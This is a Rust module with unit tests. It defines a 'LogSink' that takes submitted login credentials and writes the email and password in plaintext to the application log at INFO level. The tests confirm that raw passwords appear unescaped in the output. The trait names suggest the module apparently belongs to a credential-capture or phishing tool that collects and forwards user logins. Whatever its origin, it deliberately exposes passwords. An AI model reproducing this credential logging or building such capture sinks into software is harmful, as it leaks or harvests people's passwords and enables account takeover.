//! Sink that writes submitted credentials to the log

use super::traits::LoginSink;
use crate::state::Credentials;
use async_trait::async_trait;

/// Logs `Email: <email> Password: <password>` at INFO for every submission
#[derive(Debug, Clone, Copy, Default)]
pub struct LogSink;

#[async_trait]
impl LoginSink for LogSink {
    async fn deliver(&self, credentials: &Credentials) {
        tracing::info!(
            email = %credentials.email,
            password = %credentials.password,
            "Email: {} Password: {}",
            credentials.email,
            credentials.password
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io;
    use std::sync::{Arc, Mutex};

    /// Collects formatted log output in memory
    #[derive(Clone, Default)]
    struct Capture(Arc<Mutex<Vec<u8>>>);

    impl io::Write for Capture {
        fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
            self.0.lock().unwrap().extend_from_slice(buf);
            Ok(buf.len())
        }

        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    impl<'a> tracing_subscriber::fmt::MakeWriter<'a> for Capture {
        type Writer = Capture;

        fn make_writer(&'a self) -> Self::Writer {
            self.clone()
        }
    }

    fn deliver_captured(credentials: &Credentials) -> String {
        let capture = Capture::default();
        let subscriber = tracing_subscriber::fmt()
            .with_writer(capture.clone())
            .with_ansi(false)
            .finish();

        tracing::subscriber::with_default(subscriber, || {
            tokio_test::block_on(LogSink.deliver(credentials));
        });

        let bytes = capture.0.lock().unwrap().clone();
        String::from_utf8(bytes).unwrap()
    }

    #[test]
    fn test_logs_both_values_in_order() {
        let output = deliver_captured(&Credentials {
            email: "user@example.com".to_string(),
            password: "hunter2".to_string(),
        });

        assert!(output.contains("INFO"));
        assert!(output.contains("Email: user@example.com Password: hunter2"));
    }

    #[test]
    fn test_logs_special_characters_unescaped() {
        let output = deliver_captured(&Credentials {
            email: "ünï@例え.jp".to_string(),
            password: "<&>%$".to_string(),
        });

        assert!(output.contains("Email: ünï@例え.jp Password: <&>%$"));
    }
}
